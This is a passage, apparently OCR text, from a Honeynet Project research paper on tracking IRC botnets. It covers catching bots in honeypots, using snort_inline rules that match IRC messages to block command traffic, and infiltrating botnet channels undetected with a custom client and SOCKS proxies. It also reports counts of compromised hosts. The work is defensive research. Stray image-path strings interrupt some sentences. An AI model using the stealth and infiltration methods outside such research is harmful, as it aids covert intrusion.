       able to verify that information. But probably suchhuge botnets are used by cyber
       criminals for "professional" attacks. These kind of networks can cause severe damage
       since they offer a lot of bandwidth and many targets for identity theft.

     ConferenceRoom ( is a commercial IRCd solution, but
       people who run botnets typically use a cracked version. ConferenceRoom offers the
       possibility of several thousand simultaneous connections, with nickname and channel
       registration, buddy lists and server to server linking.
     Surprisingly we already found a Microsoft Chat Server as botnet host, and it seemed to
       run stable.

Since the people who run botnets often share the same motives (DDoS attacks or other crimes)
every bot family has its own set of commands to implement the same goals. Agobot is really nice
here: Just grep the source for RegisterCommand and get the whole command-list with a
complete description of all features. Due to the lack of clean design, the whole SDBot family is
harder to analyze. Often the command set is changed in various forks of the same bot and thus an
automated analysis of the implemented commands is nearly impossible.
If you are interested in learning more about the different bot commands, we have a more detailedoverview of command analysis in botnet commands. In addition, if you are interested in learning
more about source code of bots, you can find more detail in the separate page on botnet source

How to Track Botnets
In this section we introduce our methodology to track and observe botnets with the help of
honeypots. Tracking botnets is clearly a multi-step operation: First one needs to gather some data
about an existing botnets. This can for example be obtained via an analysis of captured malware.
Afterwards one can hook a client in thenetworks and gather further information. In the first part
of this section we thus want to introduce our techniques to retrieve the necessary information
with the help ofhoneypots. And thereafter we present our approach in observing botnets.

Getting information with the help of honeynets

As stated before, we need some sensitive information from each botnet that enables us to place a
fake bot into a botnet. The needed information include:

     DNS/IP-address of IRC server and port number
     (optional) password to connect to IRC-server
     Nickname of bot and ident structure
     Channel to join and (optional) channel-password.

Using a GenII Honeynetcontaining some Windows honeypots and snort_inline enables us to
collect this information. We deployed a typical GenII Honeynet with some small modifications
as depicted in the next figure:

The Windows honeypot is an unpatched version of Windows 2000 or Windows XP. This system
is thus very vulnerable to attacks and normally it takes only a couple of minutes before it is
successfully compromised. It is located within a dial-in network of a German ISP. On average,
the expected lifespan of the honeypot is less than ten minutes. After this small amount of time,
the honeypot is often successfully exploited by automated malware. The shortest compromise
time was only a few seconds: Once we plugged thenetwork cable in, an SDBot compromised the
machine via an exploit against TCP port 135 and installed itself on the machine.

As explained in the previous section, a bot tries to connect to an IRC server to obtain further
commands once it successfully attacks one of the honeypots. This is where the Honeywall comes
into play: Due to the Data Control facilities installed on the Honeywall, it is possible to control
the outgoing traffic. We use snort_inline for Data Control and replace all outgoing suspicious
connections. A connection is suspicious if it contains typical IRC messages like " 332 ", " TOPIC
", " PRIVMSG " or " NOTICE ". Thus we are able to inhibit the bot from accepting valid
commands from the master channel. It can therefore cause no harm to others - we have caught a
bot inside our Honeynet. As a side effect, we can also derive all necessary sensitive information
for a botnet from the data we have obtained up to that point in time: The Data Capture capability
of the Honeywall allows usto determine the DNS/IP-address the bot wants to connect to and also
the corresponding port number. In addition, we can derive from the Data Capture logs the
nickname and ident information. Also, the server's password, channel name as well as the
channel password can be obtained this way. So we have collected all necessary information and
the honeypot can catch further malware. Since we do not care about the captured malware for
now, we rebuild the honeypots every 24 hours so that we have "clean" systems every day. The
German Honeynet Project is also working on another project - to capture the incoming malware
and analyzing the payload - but more on this in a later section.

Observing Botnets

Now the second step in tracking botnets takes place, we want to re-connect into the botnet. Since
we have all the necessary data, this is not very hard. In a first approach, you can just setup an
irssi (console based IRC client) or some other IRC client and try to connect to the network. If the
network is relatively small (less then 50 clients), there is a chance that your client will be
identified since it does not answer to valid commands. In this case, the operators of the botnets
tend to either ban and/or DDoS the suspicious client. To avoid detection, you can try to hide
yourself. Disabling all auto response triggering commands in your client helps a bit: If your
client replies to a "CTCP VERSION" message with "irssi 0.89 running on openbsd i368" then
the attacker who requested the Client-To-Client Protocol (CTCP) command will get suspicious.
If you are not noticed by the operators of the botnets, you can enable logging of all commands
and thus observe what is happening.But there are many problems if you start with this approach: Some botnets use very hard stripped
down IRCds which are not RFC compliant so that a normal IRC client can not connect to this
network. A possible way to circumvent this situation is to find out what the operator has stripped
out, and modify the source code of your favorite client to override it. Almost all current IRC
clients lack well written code or have some other disadvantages. So probably you end up writing
your own IRC client to trackbotnets. Welcome to the club - ours is called drone. There are some
pitfalls that you should consider when you write your own IRC client. Here are some features
that we found useful in our dedicated botnet tracking IRC client:

     SOCKS v4 Support
     Multi-server Support: If you don't want to start an instance of your software for each
       botnet you found, this is a very useful feature.
     No Threading: Threaded software defines hard to debugging Software.
     Non-blocking connecting and DNS resolve
     poll(): Wait for some event on a file descriptor using non blocking I/O we needed an
       multiplexer, select() could have done the job, too
     libadns: This is a asynchronous DNS resolving library. Looking up hostnames does not
       block your code even if the lookup takes some time. Necessary if one decides not to use
     Written in C++ since OOP offers many advantages writing a Multi-server client
     Modular interface so you can un/load (C++) modules at runtime
     libcurl: This is acommand line tool for transferring files with URL syntax, supporting
       many different protocols. libcurl is a library offering the same features as the command
       line tool.
     Perl Compatible Regular Expressions (PCRE): The PCRE library is a set of functions that
       implement regular expression pattern matching using the same syntax and semantics as
       Perl 5. PCRE enable our client to guess the meaning of command and interact in some
       cases in a "native" way.
     Excessive debug-logging interface so that it is possible to get information about RFC
       non-compliance issues very fast and fix them in the client (side note: One day logging 50
       botnets can give more than 500 MB of debug information).

Drone is capable of using SOCKS v4 proxies so we do not run into problems if it's presence is
noticed by an attacker in a botnet. The SOCKS v4 proxies are on dial-in accounts in different
networks so that we can easily change the IPaddresses. Drone itself runs on a independent
machine we maintain ourselves. We want to thank all the people contributing to our project by
donating shells and/or proxies. Some Anti-virus vendors publish data about botnets. While
useful, this information may at times not be enough to to effectively track botnets, as we
demonstrate in Botnet Vendors.

Sometimes the owners of the botnet will issue some commands to instruct his bots. We present
the more commonly used commands in the last section. Using our approach, we are able to
monitor the issued commands and learn more about the motives of the attackers. To further
enhance our methodology, we tried to write a PCRE-based emulation of a bot so that our dummy
client could even correctly reply to a given command. But we soon minimized our design goals
here because there is no standardization of botnet commands and the attackers tend to change
their commands very often. In many cases, command-replies are even translated to their mother

When you monitor more than a couple of networks, begin to check if some of them are linked,
and group them if possible. Link-checking is easy, just join a specific channel on all networks
and see if you get more than one client there. It is surprising how many networks are linked.
People tend to set up a DNS-name and channel for every bot version they check out. To learn
more about the attacker, try putting the attacker's nickname into a Google search and often you
will be surprised how much information you can find. Finally, check the server's Regional
Internet Registries (RIR) entry (RIPE NCC, ARIN, APNIC, and LACNIC) to even learn more
about the attacker.

Lessons Learned
In this section we present some of the findings we obtained through our observation of botnets.
Data is sanitized so that it does not allowone to draw any conclusions about specific attacks
against a particular system, and protects the identity and privacy of those involved. Also, as the
data for this paper was collected in Germany by theGerman Honeynet Project, information
about specific attacks and compromised systems was forwarded to DFN-CERT (Computer
Emergency ResponseTeam) based in Hamburg, Germany. We would like to start with some
statistics about the botnets we have observed in the last few months:

     Number of botnets
       We were able to track little more than 100 botnets during the last four months. Some of
       them "died" (e.g. main IRC server down or inexperienced attacker) and at the moment we
       are tracking about 35 active botnets.
     Number of hosts
       During these few months, we saw 226,585 unique IPaddresses joining at least one of the
       channels we monitored. Seeing an IP means here that the IRCd was not modified to not
       send us an JOIN message for each joining client. If an IRCd is modified not to show
       joining clients in a channel, we don't see IPs here. Furthermore some IRCds obfuscatethe
       joining clients IP address and obfuscated IP addresses do not count as seen, too. This

    shows that the threat posed by botnets is probably worse than originally believed. Even if
    we are very optimistic and estimate that we track a significant percentage of all botnets
    and all of our tracked botnet IRC servers are not modified to hide JOINs or obfuscate the
    joining clients IPs, this would mean that more then one million hosts are compromised
    and can be controlled by malicious attackers. We know there are more botnet clients
    since the attackers sometimes use modified IRCservers that do not give us any
    information about joining users.
  Typical size of Botnets
    Some botnets consist of only a few hundred bots. In contrast to this, we have also
    monitored several large botnets with up to 50.000 hosts. The actual size of such a large
    botnet is hard to estimate. Often the attackers use heavily modified IRC servers and the
    bots are spread across several IRC servers. We use link-checking between IRCds to
    detect connections between different botnets that form one large botnet. Thus we are able
    to approximate the actual size. Keep in mind, botnets with over several hundred
    thousands hosts have been reported in the past. If a botnet consists of more than 5 linked
    IRC servers, we simply say it is large even if we are not able to determine a numerical
    number as the IRCd software is stripped down. As a side note: We know about a home
    computer which got infected by 16 (sic!) different bots, so its hard to make an estimation
    about world bot population here.
  Dimension of DDoS-attacks
